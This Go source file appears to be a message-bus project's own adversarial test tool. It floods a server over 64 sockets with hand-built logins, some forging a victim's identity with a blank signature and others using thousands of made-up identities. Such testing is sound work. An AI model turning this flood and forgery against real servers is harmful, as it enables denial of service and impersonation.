package main

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/unibus/unibus"
	"github.com/unibus/unibus/internal/attack"
)

// How logins flood: without a client's manners, and with as little work as can be.
const (
	sockets    = 64              // at once
	enoughWait = 3 * time.Second // for the answer to a login: longer than a server takes to give up
	madeUpMany = 2000            // identities
	slowMany   = 300             // requests under way
)

// options are what a login says of itself, but for the signature of the nonce.
type options struct {
	Nkey  string `json:"nkey"`
	Sig   string `json:"sig"`
	Token string `json:"auth_token"`

	Verbose  bool   `json:"verbose"`
	Lang     string `json:"lang"`
	Version  string `json:"version"`
	Protocol int    `json:"protocol"`
}

// forger floods the servers with logins that it writes by hand.
type forger struct{ flooder }

// forged tries to log in as someone else, whose key everybody knows, with a token and a nonce that this one
// did not sign.
func (f forger) forged(ctx context.Context) (string, error) {
	id, err := unibus.LoadIdentity(*victim)
	if err != nil {
		return "", err
	}
	l, err := attack.SignLogin(attack.Options{Identity: id, Bus: f.bus})
	if err != nil {
		return "", err
	}
	o := options{Nkey: id.ConnectionKey().String(), Token: l.Token, Sig: base64.RawURLEncoding.EncodeToString(make([]byte, 64))}
	return f.raw(ctx, func(int, string) options { return o }), nil
}

// madeUp logs in as identities that are nobody's, properly.
func (f forger) madeUp(ctx context.Context) (string, error) {
	ids, err := nobodies(ctx)
	if err != nil {
		return "", err
	}
	tokens := make([]string, len(ids))
	for i, id := range ids {
		l, err := attack.SignLogin(attack.Options{Identity: id, Bus: f.bus})
		if err != nil {
			return "", err
		}
		tokens[i] = l.Token
	}
	return f.raw(ctx, func(n int, nonce string) options {
		id := ids[n%len(ids)]
		return options{Nkey: id.ConnectionKey().String(), Token: tokens[n%len(ids)], Sig: base64.RawURLEncoding.EncodeToString(id.SignNonce([]byte(nonce)))}
	}), nil
}

// nobodies are identities that nobody has, as many as can be made until ctx ends.
func nobodies(ctx context.Context) (ids []*unibus.Identity, err error) {
	for range madeUpMany {
		if ctx.Err() != nil {
			break
		}
		id, err := unibus.NewIdentity()
		if err != nil {
			return nil, err
		}
		ids = append(ids, id)
	}
	return ids, nil
}

// raw logs in over as many sockets as it can.
func (f forger) raw(ctx context.Context, login func(n int, nonce string) options) string {
	var n, sent, answered atomic.Int64
	var all sync.WaitGroup
	for range sockets {
		all.Go(func() {
			for ctx.Err() == nil {
				ok, err := f.rawLogin(func(nonce string) options { return login(int(n.Add(1)), nonce) })
				if err == nil {
					sent.Add(1)
				}
				if ok {
					answered.Add(1)
				}
			}
		})
	}
	all.Wait()
	return fmt.Sprintf("%d logins, %d answered within %v", sent.Load(), answered.Load(), enoughWait)
}

// rawLogin logs in by hand over one socket, which it then closes, and reports whether the server answered in time,
// whatever it said.
func (f forger) rawLogin(login func(nonce string) options) (answered bool, err error) {
	conn, err := net.Dial("tcp", strings.TrimPrefix(*server, "nats://"))
	if err != nil {
		return false, err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(time.Second)) // it never fails on a socket that is open
	lines := bufio.NewReader(conn)
	line, err := lines.ReadString('\n')
	if err != nil {
		return false, err
	}
	var info struct{ Nonce string }
	if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "INFO ")), &info); err != nil {
		return false, err
	}
	text, err := json.Marshal(login(info.Nonce))
	if err != nil {
		return false, err
	}
	if _, err := fmt.Fprintf(conn, "CONNECT %s\r\nPING\r\n", text); err != nil {
		return false, err
	}
	_ = conn.SetDeadline(time.Now().Add(enoughWait))
	_, err = lines.ReadString('\n')
	return err == nil, nil
}
